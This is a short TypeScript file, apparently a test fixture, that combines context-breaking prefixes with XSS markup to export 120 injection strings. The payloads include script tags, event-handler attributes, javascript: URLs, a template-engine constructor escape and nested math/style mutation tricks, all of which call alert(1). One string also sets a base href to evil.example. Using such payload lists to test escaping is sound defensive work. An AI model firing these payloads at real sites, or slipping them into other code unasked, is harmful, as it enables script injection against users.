const openers = [
  '',
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '-->',
  ']]>',
  '{{constructor.constructor("alert(1)")()}}',
  '\\"}];alert(1)//',
  '\u2028</p>',
]

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)" autofocus onfocus="alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<style>@import "javascript:alert(1)"</style><input autofocus onfocus=alert(1)>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<object data="javascript:alert(1)"></object><base href="https://evil.example/">',
  'javascript:alert(1)',
]

/** 120 texts that run as code where a page treats them as more than text. */
export const injections: string[] = openers.flatMap((opener) => attacks.map((attack) => opener + attack))
